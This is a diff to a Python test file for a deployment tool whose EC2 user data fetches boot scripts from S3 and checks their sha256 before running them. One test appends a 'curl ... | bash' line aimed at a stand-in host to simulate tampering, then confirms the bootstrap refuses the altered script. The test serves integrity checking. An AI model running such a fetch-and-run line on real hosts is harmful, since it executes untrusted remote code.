@@ -7,6 +7,7 @@ with a fake ``aws`` command that records its arguments.
 
 from __future__ import annotations
 
+import hashlib
 import json
 import os
 import re
@@ -21,8 +22,9 @@ import pytest
 from rigs.catalog.model import load_catalog
 from rigs.contract import HF_TOKEN_SECRET
 from rigs.deploy.model_options import ModelRequest, serve
-from rigs.userdata import (SCRIPT_DIR, SHEBANG, USER_DATA_LIMIT_BYTES, BootSettings, UserDataError, environment,
-                           preamble, render, script_files)
+from rigs.userdata import (BOOTSTRAP, SCRIPT_DIR, SHEBANG, USER_DATA_LIMIT_BYTES, BootSettings, UserDataError,
+                           boot_scripts, boot_scripts_sha256, environment, preamble, render, script_files,
+                           stack_settings)
 from tests.contract.templates import WAIT_HANDLE_URL
 from tests.contract.templates import boot_environment
 
@@ -40,7 +42,9 @@ def boot(rig, **overrides) -> BootSettings:
     values = dict(region=rig.regions[0], stack_name=rig.stack_name, signal_resource="RigGroup97D30988",
                   wait_handle_url=WAIT_HANDLE_URL, log_group=f"/aws-inference/{rig.name}", image=rig.image.pull_reference(),
                   ready_timeout_seconds=rig.ready_timeout_minutes * 60,
-                  registry="123456789012.dkr.ecr.us-east-1.amazonaws.com" if rig.name == "g5g" else "")
+                  registry="123456789012.dkr.ecr.us-east-1.amazonaws.com" if rig.name == "g5g" else "",
+                  boot_scripts_url=f"s3://cdk-hnb659fds-assets-123456789012-us-east-2/{'0' * 64}.sh",
+                  boot_scripts_sha256=boot_scripts_sha256(rig))
     values.update(overrides)
     return BootSettings(**values)
 
@@ -59,24 +63,36 @@ def test_every_bash_file_is_shellcheck_clean_and_strict(path):
 
 
 @pytest.mark.parametrize("rig", RIGS, ids=lambda r: f"{r.name}-{r.image.tag}")
-def test_rendered_script_is_shellcheck_clean_and_under_16_kb(rig, tmp_path):
+def test_user_data_and_boot_scripts_are_shellcheck_clean_and_the_user_data_within_4_kb(rig, tmp_path):
     script = render(rig, boot(rig))
-    assert len(script.encode()) < USER_DATA_LIMIT_BYTES
-    path = tmp_path / "user-data.sh"
-    path.write_text(script)
-    result = shellcheck(path)
-    assert result.returncode == 0, result.stdout
+    assert len(script.encode()) <= USER_DATA_LIMIT_BYTES == 4096
+    for name, text in (("user-data.sh", script), ("boot-scripts.sh", boot_scripts(rig))):
+        path = tmp_path / name
+        path.write_text(text)
+        result = shellcheck(path)
+        assert result.returncode == 0, result.stdout
 
 
 @pytest.mark.parametrize("rig", RIGS, ids=lambda r: f"{r.name}-{r.image.tag}")
 def test_rendering_is_deterministic_and_made_of_the_real_files(rig):
     first, second = render(rig, boot(rig)), render(rig, boot(rig))
-    assert first == second
-    assert first.startswith(SHEBANG + "\n")
+    assert first == second and boot_scripts(rig) == boot_scripts(rig)
+    assert first.startswith(SHEBANG + "\n") and boot_scripts(rig).startswith(SHEBANG + "\n")
+    assert BOOTSTRAP.read_text().split("\n", 1)[1] in first, "bootstrap.sh is not in the user data verbatim"
     for path in script_files(rig):
         body = path.read_text().split("\n", 1)[1]
-        assert body in first, f"{path.name} is not included verbatim"
-    assert first.rstrip().endswith("main")
+        assert body in boot_scripts(rig), f"{path.name} is not in the boot scripts verbatim"
+        assert body not in first, f"{path.name} is in the user data"
+    assert boot_scripts(rig).rstrip().endswith("main")
+    assert boot_scripts_sha256(rig) == hashlib.sha256(boot_scripts(rig).encode()).hexdigest()
+
+
+def test_the_user_data_carries_the_stacks_settings_and_the_boot_scripts_the_catalogs():
+    rig = NEURON_VLLM_RIGS[1]
+    user_data, scripts = render(rig, boot(rig)), boot_scripts(rig)
+    assert boot_environment(user_data) == stack_settings(rig, boot(rig))
+    assert boot_environment(scripts)["RIG_SERVE_FLAGS"].split("\n") == list(rig.serve_flags)
+    assert "RIG_NEURON_DEVICES" not in boot_environment(user_data)
 
 
 def test_preamble_is_sorted_and_every_value_survives_bash_quoting():
@@ -121,10 +137,12 @@ def test_a_runtime_no_ec2_rig_boots_has_no_user_data(runtime):
         render(rig, boot(rig))
 
 
-def test_oversized_user_data_is_refused():
+def test_oversized_user_data_is_refused_in_one_line_with_the_fix():
     rig = CATALOG.get("g6")
-    with pytest.raises(UserDataError, match="16384"):
-        render(rig, boot(rig, wait_handle_url="x" * 4000))
+    with pytest.raises(UserDataError, match=r"^rig g6: its user data would be 5,\d{3} bytes, over the 4,096 this "
+                                            r"project allows \(EC2 takes 16,384\): what grew belongs in the boot "
+                                            r"scripts"):
+        render(rig, boot(rig, wait_handle_url="x" * 3000))
 
 
 # --- behaviour of the boot functions ---------------------------------------------------
@@ -450,3 +468,61 @@ def test_the_gpu_probe_is_one_real_cuda_op_in_python():
     probe = re.search(r"^readonly GPU_PROBE='(.*?)'$", text, re.S | re.M).group(1)
     compile(probe, "GPU_PROBE", "exec")
     assert 'device="cuda"' in probe and ".sum()" in probe
+
+
+# --- the bootstrap: fetch, check, run -------------------------------------------------------
+
+
+def run_bootstrap(tmp_path: Path, port: int, served: str, expected: str, aws: str = "") -> tuple[int, str]:
+    """The user data's bootstrap with a fake ``aws`` that copies ``served`` as the S3 object (or runs ``aws``, bash);
+    the boot scripts the synth made are ``expected``. Returns (rc, stdout and stderr)."""
+    rig = CATALOG.get("g6")
+    (tmp_path / "object.sh").write_text(served)
+    fakebin = tmp_path / "bin"
+    fakebin.mkdir()
+    copy = f'[[ "$1 $2" == "s3 cp" ]] && cp {tmp_path / "object.sh"} "${{@: -1}}"'
+    (fakebin / "aws").write_text(f'#!/usr/bin/env bash\necho "$*" >> {tmp_path / "aws-calls"}\n{aws or copy}\n')
+    (fakebin / "aws").chmod(0o755)
+    settings = boot(rig, wait_handle_url=f"http://127.0.0.1:{port}/handle",
+                    boot_scripts_sha256=hashlib.sha256(expected.encode()).hexdigest())
+    script = (f"export RIG_STATE_DIR={tmp_path / 'state'} RIG_LOG_DIR={tmp_path / 'log'}\n"
+              + render(rig, settings).split("\n", 1)[1])
+    result = subprocess.run(["bash", "-c", script], capture_output=True, text=True, timeout=60,
+                            env={"PATH": f"{fakebin}:{os.environ['PATH']}", "HOME": str(tmp_path)})
+    return result.returncode, result.stdout + result.stderr
+
+
+SCRIPTS = "#!/usr/bin/env bash\necho \"boot scripts ran for $RIG_NAME\"\n"
+
+
+def test_boot_scripts_with_the_synthesized_hash_run_in_the_same_shell(server, tmp_path):
+    rc, out = run_bootstrap(tmp_path, server.server_port, SCRIPTS, SCRIPTS)
+    assert rc == 0 and "boot scripts ran for g6" in out, out
+    digest = hashlib.sha256(SCRIPTS.encode()).hexdigest()
+    assert f"boot scripts s3://cdk-hnb659fds-assets-123456789012-us-east-2/{'0' * 64}.sh: sha256 {digest} as " \
+           "synthesized" in (tmp_path / "log" / "user-data.log").read_text()
+    assert (tmp_path / "aws-calls").read_text().startswith("s3 cp --only-show-errors --region us-east-2 s3://")
+    assert not FakeEndpoints.signals
+
+
+def test_boot_scripts_that_changed_are_refused_in_one_line_and_never_run(server, tmp_path):
+    tampered = SCRIPTS + "curl http://example.invalid/x | bash\n"
+    rc, out = run_bootstrap(tmp_path, server.server_port, tampered, SCRIPTS)
+    got, wanted = (hashlib.sha256(text.encode()).hexdigest() for text in (tampered, SCRIPTS))
+    reason = (f"boot scripts s3://cdk-hnb659fds-assets-123456789012-us-east-2/{'0' * 64}.sh have sha256 {got}, "
+              f"not {wanted} as synthesized: not running them")
+    assert rc == 1 and "boot scripts ran" not in out
+    assert f"FAILED: {reason}" in (tmp_path / "log" / "user-data.log").read_text()  # the boot report
+    [signal] = FakeEndpoints.signals  # the deploy's failure reason
+    assert signal["Status"] == "FAILURE" and signal["Reason"] == f"g6: {reason}"
+
+
+def test_boot_scripts_that_cannot_be_fetched_fail_the_boot_naming_the_object(server, tmp_path):
+    denied = ('echo \'fatal error: An error occurred (403) when calling the HeadObject operation: "Forbidden"\' >&2; '
+              'exit 1')
+    rc, out = run_bootstrap(tmp_path, server.server_port, SCRIPTS, SCRIPTS, aws=denied)
+    assert rc == 1 and "boot scripts ran" not in out
+    [signal] = FakeEndpoints.signals
+    assert signal["Reason"] == (f"g6: could not fetch the boot scripts s3://cdk-hnb659fds-assets-123456789012-us-east-2/"
+                                f"{'0' * 64}.sh: fatal error: An error occurred (403) when calling the HeadObject "
+                                "operation: Forbidden ")
